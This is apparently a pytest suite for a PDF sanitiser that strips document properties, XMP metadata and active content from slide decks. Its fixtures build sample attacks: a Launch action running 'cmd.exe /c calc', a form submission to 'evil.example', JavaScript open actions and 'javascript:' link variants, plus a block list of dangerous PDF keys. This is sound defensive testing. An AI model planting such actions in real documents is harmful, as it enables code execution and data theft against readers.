"""Slide decks are published without document properties or active content."""

from __future__ import annotations

import contextlib
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pikepdf
import pypdfium2
import pytest
from pikepdf import Array, Dictionary, Name, String

from casebook.content.pdf import PdfError, active_content, clean_pdf

SLIDE_TEXT = "Slide {number}: forty percent faster"
XMP = b"""<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">
<dc:creator><rdf:Seq><rdf:li>Jane Roe, Okuyama Precision</rdf:li></rdf:Seq></dc:creator>
</rdf:Description></rdf:RDF></x:xmpmeta>
<?xpacket end="w"?>"""
FORBIDDEN = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/OpenAction")


def content(number: int) -> bytes:
    return f"BT /F1 24 Tf 40 200 Td ({SLIDE_TEXT.format(number=number)}) Tj ET".encode()


def deck(pages: int = 2) -> pikepdf.Pdf:
    """Slides with a line of visible text each."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        pdf.add_blank_page(page_size=(720, 405))
        page = pdf.pages[-1].obj
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(content(number))
    return pdf


def javascript(code: str = "app.alert('hello')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def uri(address: str) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String(address))


def annotate(pdf: pikepdf.Pdf, annotation: Dictionary, page: int = 0) -> Dictionary:
    """Add an annotation to a page, as an indirect object like real files have."""
    made = pdf.make_indirect(annotation)
    holder = pdf.pages[page].obj
    if "/Annots" not in holder:
        holder.Annots = Array()
    holder.Annots.append(made)
    return made


def link(pdf: pikepdf.Pdf, action: Dictionary, page: int = 0) -> Dictionary:
    return annotate(pdf, Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[40, 180, 400, 230], Border=[0, 0, 0],
        A=action), page)


def save(pdf: pikepdf.Pdf, path: Path) -> Path:
    pdf.save(path)
    return path


def cleaned(tmp_path: Path, pdf: pikepdf.Pdf) -> Path:
    source = save(pdf, tmp_path / "deck.pdf")
    target = tmp_path / "deck-clean.pdf"
    clean_pdf(source, target)
    return target


def readable_bytes(path: Path) -> bytes:
    """The file's bytes, with every Flate stream (object streams too) also decompressed."""
    data = path.read_bytes()
    parts = [data]
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", data, re.DOTALL):
        with contextlib.suppress(zlib.error):
            parts.append(zlib.decompressobj().decompress(match.group(1)))
    return b"\n".join(parts)


def annotations_of(pdf: pikepdf.Pdf, page: int = 0) -> list[pikepdf.Object]:
    found = pdf.pages[page].obj.get("/Annots")
    return list(found) if isinstance(found, Array) else []


def rendered_text(path: Path) -> list[str]:
    """Each page's text as pdfium reads it, after rendering the first page."""
    document = pypdfium2.PdfDocument(str(path))
    try:
        image = document[0].render(scale=0.5).to_pil().convert("L")
        assert image.getextrema()[0] < 128, "the first page renders blank"
        return [page.get_textpage().get_text_range() for page in document]
    finally:
        document.close()


# Document properties


def add_properties(pdf: pikepdf.Pdf) -> None:
    pdf.trailer.Info = pdf.make_indirect(Dictionary(
        Author=String("Jane Roe"), Company=String("Okuyama Precision"),
        Creator=String("Microsoft PowerPoint"), Producer=String("Acrobat Distiller 23"),
        ClientCodename=String("Project Bluebird")))
    xmp = pdf.make_stream(XMP, Type=Name.Metadata, Subtype=Name.XML)
    pdf.Root.Metadata = xmp
    page = pdf.pages[0].obj
    page.Metadata = pdf.make_stream(XMP, Type=Name.Metadata, Subtype=Name.XML)
    page.PieceInfo = Dictionary(Illustrator=Dictionary(
        LastModified=String("D:20240101"), Private=Dictionary(User=String("Jane Roe"))))
    pdf.Root.PieceInfo = Dictionary(Acrobat=Dictionary(Owner=String("Project Bluebird")))
    image = pdf.make_stream(b"\x10\x20\x30", Type=Name.XObject, Subtype=Name.Image, Width=1,
                            Height=1, ColorSpace=Name.DeviceRGB, BitsPerComponent=8,
                            Metadata=pdf.make_stream(XMP, Type=Name.Metadata, Subtype=Name.XML))
    page.Resources.XObject = Dictionary(Im1=image)
    page.Contents = pdf.make_stream(content(1) + b"\nq 20 0 0 20 600 300 cm /Im1 Do Q")


def test_document_properties_and_xmp_are_gone(tmp_path: Path) -> None:
    pdf = deck()
    add_properties(pdf)
    target = cleaned(tmp_path, pdf)

    with pikepdf.open(target) as result:
        assert "/Info" not in result.trailer
        assert "/Metadata" not in result.Root
        assert "/PieceInfo" not in result.Root
        page = result.pages[0].obj
        assert "/Metadata" not in page
        assert "/PieceInfo" not in page
        assert "/Metadata" not in page.Resources.XObject.Im1
        assert page.Resources.XObject.Im1.read_bytes() == b"\x10\x20\x30"
    readable = readable_bytes(target)
    for secret in (b"Jane Roe", b"Okuyama", b"Project Bluebird", b"PowerPoint", b"Distiller",
                   b"xmpmeta"):
        assert secret not in readable


def test_properties_are_listed_by_name(tmp_path: Path) -> None:
    pdf = deck()
    add_properties(pdf)
    found = active_content(save(pdf, tmp_path / "deck.pdf"))
    assert "document properties (Author, ClientCodename, Company, Creator, Producer)" in found
    assert "XMP metadata" in found
    assert "XMP metadata on pages" in found
    assert "XMP metadata on images and drawings" in found
    assert "application private data (PieceInfo)" in found


def test_the_original_file_identifier_is_not_kept(tmp_path: Path) -> None:
    source = save(deck(), tmp_path / "deck.pdf")
    with pikepdf.open(source) as original:
        first_id = bytes(original.trailer.ID[0])
    target = tmp_path / "clean.pdf"
    clean_pdf(source, target)
    with pikepdf.open(target) as result:
        assert bytes(result.trailer.ID[0]) != first_id
    assert first_id not in target.read_bytes()


def test_names_of_comment_authors_are_removed_and_the_comment_kept(tmp_path: Path) -> None:
    pdf = deck()
    annotate(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=[10, 10, 30, 30],
                             T=String("Jane Roe"), Contents=String("Check the figures")))
    target = cleaned(tmp_path, pdf)
    with pikepdf.open(target) as result:
        (comment,) = annotations_of(result)
        assert "/T" not in comment
        assert str(comment.Contents) == "Check the figures"
    assert b"Jane Roe" not in readable_bytes(target)


# Active content, one kind at a time


def add_open_action(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = javascript()


def add_catalog_aa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=javascript(), DP=javascript("this.submitForm('x')"))


def add_named_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(
        Names=Array([String("init"), pdf.make_indirect(javascript())])))


def add_launch(pdf: pikepdf.Pdf) -> None:
    link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"),
                         Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))))


def add_submit_form(pdf: pikepdf.Pdf) -> None:
    link(pdf, Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL,
                                                          F=String("https://evil.example/"))))


def add_import_data(pdf: pikepdf.Pdf) -> None:
    link(pdf, Dictionary(S=Name.ImportData, F=String("answers.fdf")))


def add_goto_remote(pdf: pikepdf.Pdf) -> None:
    link(pdf, Dictionary(S=Name.GoToR, F=String("\\\\server\\share\\other.pdf"),
                         D=Array([0, Name.Fit])))


def add_goto_embedded(pdf: pikepdf.Pdf) -> None:
    link(pdf, Dictionary(S=Name.GoToE, D=Array([0, Name.Fit]),
                         T=Dictionary(R=Name.C, N=String("payload.pdf"))))


def add_javascript_after_uri(pdf: pikepdf.Pdf) -> None:
    action = uri("https://example.com/")
    action.Next = Array([uri("https://example.org/"), pdf.make_indirect(javascript())])
    link(pdf, action)


def add_javascript_address(pdf: pikepdf.Pdf) -> None:
    link(pdf, uri("javascript:alert(1)"))


def embedded_file(pdf: pikepdf.Pdf) -> Dictionary:
    payload = pdf.make_stream(b"customer list: Okuyama", Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("customers.txt"),
                                        UF=String("customers.txt"), EF=Dictionary(F=payload)))


def add_attachments(pdf: pikepdf.Pdf) -> None:
    spec = embedded_file(pdf)
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(
        Names=Array([String("customers.txt"), spec])))
    attachment = annotate(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                          Rect=[10, 10, 30, 30], FS=embedded_file(pdf)))
    popup = annotate(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Popup,
                                     Rect=[40, 10, 200, 80], Parent=attachment))
    attachment.Popup = popup


def add_form(pdf: pikepdf.Pdf) -> None:
    widget = annotate(pdf, Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("ok"),
        Rect=[10, 10, 60, 30], AA=Dictionary(U=javascript()), A=javascript()))
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]),
                                   XFA=pdf.make_stream(b"<xdp:xdp/>"))


def add_outline_javascript(pdf: pikepdf.Pdf) -> None:
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    second = pdf.make_indirect(Dictionary(Title=String("Results"), Parent=outlines,
                                          A=javascript()))
    first = pdf.make_indirect(Dictionary(Title=String("Intro"), Parent=outlines, Next=second,
                                         Dest=Array([pdf.pages[0].obj, Name.Fit])))
    second.Prev = first
    outlines.First, outlines.Last = first, second
    pdf.Root.Outlines = outlines


def add_page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[1].obj.AA = Dictionary(O=javascript())


def catalog_lacks(key: str) -> Callable[[pikepdf.Pdf], bool]:
    return lambda pdf: key not in pdf.Root


def link_is_inert(pdf: pikepdf.Pdf) -> bool:
    (kept,) = annotations_of(pdf)
    return kept.Subtype == Name.Link and "/A" not in kept


def page_has_no_annotations(pdf: pikepdf.Pdf) -> bool:
    return annotations_of(pdf) == []


def attachments_are_gone(pdf: pikepdf.Pdf) -> bool:
    return page_has_no_annotations(pdf) and "/Names" not in pdf.Root


def form_is_gone(pdf: pikepdf.Pdf) -> bool:
    return page_has_no_annotations(pdf) and "/AcroForm" not in pdf.Root


def bookmark_is_inert(pdf: pikepdf.Pdf) -> bool:
    first = pdf.Root.Outlines.First
    second = first.Next
    return (str(second.Title) == "Results" and "/A" not in second
            and first.Dest[0].objgen == pdf.pages[0].obj.objgen)


def page_lacks_aa(pdf: pikepdf.Pdf) -> bool:
    return "/AA" not in pdf.pages[1].obj


@dataclass(frozen=True)
class Case:
    add: Callable[[pikepdf.Pdf], None]
    removed: Callable[[pikepdf.Pdf], bool]
    words: tuple[str, ...]


CASES = {
    "open-action-javascript": Case(add_open_action, catalog_lacks("/OpenAction"),
                                   ("JavaScript that runs when the file opens",)),
    "catalog-aa": Case(add_catalog_aa, catalog_lacks("/AA"),
                       ("JavaScript that runs when the file is closed, saved or printed",)),
    "names-javascript": Case(add_named_javascript, catalog_lacks("/Names"),
                             ("document-level JavaScript",)),
    "launch": Case(add_launch, link_is_inert,
                   ("a command that starts another program or file in a link",)),
    "submit-form": Case(add_submit_form, link_is_inert,
                        ("a form submission that sends data elsewhere in a link",)),
    "import-data": Case(add_import_data, link_is_inert,
                        ("an import of data from another file in a link",)),
    "goto-remote": Case(add_goto_remote, link_is_inert,
                        ("a jump to another PDF file in a link",)),
    "goto-embedded": Case(add_goto_embedded, link_is_inert,
                          ("a jump into an embedded file in a link",)),
    "javascript-after-uri": Case(add_javascript_after_uri, link_is_inert,
                                 ("JavaScript in a link",)),
    "javascript-address": Case(add_javascript_address, link_is_inert,
                               ("an address with the javascript: scheme in a link",)),
    "attachments": Case(add_attachments, attachments_are_gone,
                        ("embedded files", "file attachments")),
    "form": Case(add_form, form_is_gone, ("form fields", "an XFA form", "a form (AcroForm)")),
    "outline-javascript": Case(add_outline_javascript, bookmark_is_inert,
                               ("JavaScript in a bookmark",)),
    "page-aa": Case(add_page_aa, page_lacks_aa,
                    ("JavaScript that runs when a page opens or closes",)),
}


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_active_content_is_removed(tmp_path: Path, case: Case) -> None:
    pdf = deck()
    case.add(pdf)
    source = save(pdf, tmp_path / "deck.pdf")
    found = active_content(source)
    for words in case.words:
        assert words in found

    target = tmp_path / "clean.pdf"
    clean_pdf(source, target)

    with pikepdf.open(target) as result:
        assert case.removed(result)
        assert len(result.pages) == 2
    readable = readable_bytes(target)
    for forbidden in FORBIDDEN:
        assert forbidden not in readable
    assert b"customer list" not in readable
    assert active_content(target) == []
    assert rendered_text(target) == [SLIDE_TEXT.format(number=n) for n in (1, 2)]


def test_all_of_it_at_once(tmp_path: Path) -> None:
    pdf = deck()
    add_properties(pdf)
    for case in CASES.values():
        case.add(pdf)
    target = cleaned(tmp_path, pdf)
    readable = readable_bytes(target)
    for forbidden in (*FORBIDDEN, b"/AA", b"/AcroForm", b"/XFA", b"Jane Roe", b"javascript:"):
        assert forbidden not in readable
    assert active_content(target) == []
    assert rendered_text(target) == [SLIDE_TEXT.format(number=n) for n in (1, 2)]


def test_cycles_in_actions_and_bookmarks_end(tmp_path: Path) -> None:
    pdf = deck()
    first = pdf.make_indirect(uri("https://example.com/"))
    second = pdf.make_indirect(uri("https://example.org/"))
    first.Next, second.Next = second, first
    link(pdf, first)
    link(pdf, pdf.make_indirect(Dictionary(S=Name.URI, URI=String("https://a.example/"),
                                           Next=pdf.make_indirect(javascript()))))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    item = pdf.make_indirect(Dictionary(Title=String("Loop"), Parent=outlines, A=javascript()))
    item.Next, item.First = item, item
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines

    target = cleaned(tmp_path, pdf)
    with pikepdf.open(target) as result:
        safe, unsafe = annotations_of(result)
        assert str(safe.A.URI) == "https://example.com/"
        assert "/A" not in unsafe
        assert "/A" not in result.Root.Outlines.First


def test_a_removed_annotation_keeps_nothing_where_it_is_still_referred_to(
        tmp_path: Path) -> None:
    pdf = deck()
    attachment = annotate(pdf, Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                          Rect=[10, 10, 30, 30], FS=embedded_file(pdf)))
    marked = Dictionary(Type=Name.OBJR, Obj=attachment, Pg=pdf.pages[0].obj)
    pdf.Root.StructTreeRoot = pdf.make_indirect(Dictionary(
        Type=Name.StructTreeRoot, K=Dictionary(Type=Name.StructElem, S=Name.Annot, K=marked)))
    target = cleaned(tmp_path, pdf)
    with pikepdf.open(target) as result:
        assert annotations_of(result) == []
        assert result.Root.StructTreeRoot.K.K.Obj.keys() == set()
    readable = readable_bytes(target)
    assert b"customer list" not in readable
    assert b"/EmbeddedFile" not in readable


# What is kept


def test_pages_links_and_plain_destinations_are_kept(tmp_path: Path) -> None:
    pdf = deck(pages=3)
    link(pdf, uri("https://example.com/case-study"))
    link(pdf, uri("mailto:sales@example.com"))
    link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[2].obj, Name.Fit])))
    annotate(pdf, Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 10, 10],
                             Dest=Array([pdf.pages[1].obj, Name.XYZ, 0, 405, None])))
    pdf.Root.OpenAction = Array([pdf.pages[1].obj, Name.FitH, 405])
    add_outline_javascript(pdf)
    target = cleaned(tmp_path, pdf)

    with pikepdf.open(target) as result:
        assert len(result.pages) == 3
        for number, page in enumerate(result.pages, start=1):
            assert page.obj.Contents.read_bytes() == content(number)
        web, mail, jump, destination = annotations_of(result)
        assert str(web.A.URI) == "https://example.com/case-study"
        assert str(mail.A.URI) == "mailto:sales@example.com"
        assert str(jump.A.S) == "/GoTo"
        assert jump.A.D[0].objgen == result.pages[2].obj.objgen
        assert destination.Dest[0].objgen == result.pages[1].obj.objgen
        open_at = result.Root.OpenAction
        assert isinstance(open_at, Array)
        assert open_at[0].objgen == result.pages[1].obj.objgen
        assert open_at[1] == Name.FitH
        assert str(result.Root.Outlines.First.Title) == "Intro"
    assert active_content(target) == []
    assert rendered_text(target) == [SLIDE_TEXT.format(number=n) for n in (1, 2, 3)]


@pytest.mark.parametrize("address", [
    "file:///C:/Users/jroe/secret.pdf", "JavaScript:alert(1)", " javascript:alert(1)",
    "java\tscript:alert(1)", "data:text/html,hi", "customers.pdf"])
def test_only_http_https_and_mailto_addresses_are_kept(tmp_path: Path, address: str) -> None:
    pdf = deck()
    link(pdf, uri(address))
    with pikepdf.open(cleaned(tmp_path, pdf)) as result:
        assert "/A" not in annotations_of(result)[0]


def test_an_open_action_that_is_an_action_is_dropped_even_a_jump(tmp_path: Path) -> None:
    pdf = deck()
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
    with pikepdf.open(cleaned(tmp_path, pdf)) as result:
        assert "/OpenAction" not in result.Root


# Output


def test_cleaning_is_deterministic(tmp_path: Path) -> None:
    pdf = deck()
    add_properties(pdf)
    add_javascript_after_uri(pdf)
    source = save(pdf, tmp_path / "deck.pdf")
    clean_pdf(source, tmp_path / "first.pdf")
    clean_pdf(source, tmp_path / "second.pdf")
    assert (tmp_path / "first.pdf").read_bytes() == (tmp_path / "second.pdf").read_bytes()


def test_cleaning_a_clean_file_changes_nothing(tmp_path: Path) -> None:
    pdf = deck()
    add_properties(pdf)
    add_attachments(pdf)
    add_outline_javascript(pdf)
    once = cleaned(tmp_path, pdf)
    twice = tmp_path / "twice.pdf"
    clean_pdf(once, twice)
    assert twice.read_bytes() == once.read_bytes()


def test_a_clean_deck_has_no_active_content(tmp_path: Path) -> None:
    assert active_content(save(deck(), tmp_path / "deck.pdf")) == []


def test_a_file_encrypted_without_a_user_password_is_written_unencrypted(tmp_path: Path) -> None:
    source = tmp_path / "deck.pdf"
    deck().save(source, encryption=pikepdf.Encryption(user="", owner="owner-secret"))
    target = tmp_path / "clean.pdf"
    clean_pdf(source, target)
    with pikepdf.open(target) as result:
        assert not result.is_encrypted
        assert result.pages[0].obj.Contents.read_bytes() == content(1)


def test_a_damaged_file_that_qpdf_can_repair_is_cleaned(tmp_path: Path) -> None:
    data = save(deck(), tmp_path / "deck.pdf").read_bytes()
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(re.sub(rb"startxref\s+\d+", b"startxref\n999999", data))
    target = tmp_path / "clean.pdf"
    clean_pdf(broken, target)
    assert rendered_text(target) == [SLIDE_TEXT.format(number=n) for n in (1, 2)]


# Refused


def test_a_password_protected_file_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "deck.pdf"
    deck().save(source, encryption=pikepdf.Encryption(user="x", owner="y"))
    message = "it is protected by a password; export it again without one"
    with pytest.raises(PdfError, match=message):
        clean_pdf(source, tmp_path / "clean.pdf")
    with pytest.raises(PdfError, match=message):
        active_content(source)
    assert not (tmp_path / "clean.pdf").exists()


@pytest.mark.parametrize("data", [b"", b"PowerPoint slides, honestly\n" * 100,
                                  b"%PDF-1.7\n" + bytes(range(256)) * 20])
def test_a_file_that_is_not_a_pdf_is_refused(tmp_path: Path, data: bytes) -> None:
    source = tmp_path / "deck.pdf"
    source.write_bytes(data)
    with pytest.raises(PdfError, match="not a PDF, or it is damaged"):
        clean_pdf(source, tmp_path / "clean.pdf")
    assert not (tmp_path / "clean.pdf").exists()


def test_a_copy_that_does_not_open_is_not_left_behind(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source = save(deck(), tmp_path / "deck.pdf")

    def save_broken(pdf: pikepdf.Pdf, target: Path, **options: object) -> None:
        Path(target).write_bytes(b"%PDF-1.7\n%%EOF\n")

    monkeypatch.setattr(pikepdf.Pdf, "save", save_broken)
    with pytest.raises(PdfError, match="damaged beyond repair"):
        clean_pdf(source, tmp_path / "clean.pdf")
    assert not (tmp_path / "clean.pdf").exists()


def test_a_pdf_without_pages_is_refused(tmp_path: Path) -> None:
    source = save(pikepdf.new(), tmp_path / "empty.pdf")
    with pytest.raises(PdfError, match="it has no pages"):
        clean_pdf(source, tmp_path / "clean.pdf")
